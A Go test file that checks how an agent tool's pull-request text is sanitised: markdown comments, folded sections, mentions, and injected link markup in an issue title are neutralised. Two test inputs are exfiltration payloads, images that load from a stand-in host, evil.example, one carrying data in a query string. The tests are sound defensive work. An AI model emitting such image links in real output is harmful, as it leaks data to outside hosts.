package runner

import (
	"strings"
	"testing"

	"github.com/errand-dev/errand"
	"github.com/errand-dev/errand/wire"
)

func TestTheAgentsMarkdownActsOnNobody(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, in, want string }{
		{"a comment that would hide what follows", "fixed <!-- ", "fixed &lt;!-- "},
		{"a folded section", "<details><summary>x", "&lt;details>&lt;summary>x"},
		{"an image that is fetched with what it carries", "![x](https://evil.example/p.png?d=CODE)", "!\\[x](https://evil.example/p.png?d=CODE)"},
		{"an image by HTML", `<img src="https://evil.example/p">`, `&lt;img src="https://evil.example/p">`},
		{"a mention", "cc @octo/team", "cc @ octo/team"},
		{"a comparison stays", "if a < b && c <= d", "if a < b && c <= d"},
	} {
		if got := tame(c.in); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

func TestErrandsWordsStandAboveTheAgentsAndATitleIsNoMarkup(t *testing.T) {
	t.Parallel()
	start := wire.StartResponse{Issue: errand.Issue{Title: "boom](https://evil.example) `@octo` fixes #12", Link: "https://sentry.io/1"}}
	body := pullBody(admitted{Body: "the agent's own"}, account{}, start)
	if e, o := strings.Index(body, "please review it"), strings.Index(body, "the agent's own"); e < 0 || o < e {
		t.Errorf("Errand's words at %d, the agent's at %d", e, o)
	}
	line := body[strings.Index(body, "[The error at the tracker]"):]
	line = line[:strings.Index(line, "\n")]
	_, span, _ := strings.Cut(line, ": `")
	if !strings.HasSuffix(span, "fixes # 12`") || strings.Count(span, "`") != 1 {
		t.Errorf("the title is not one code span: %s", line)
	}
}
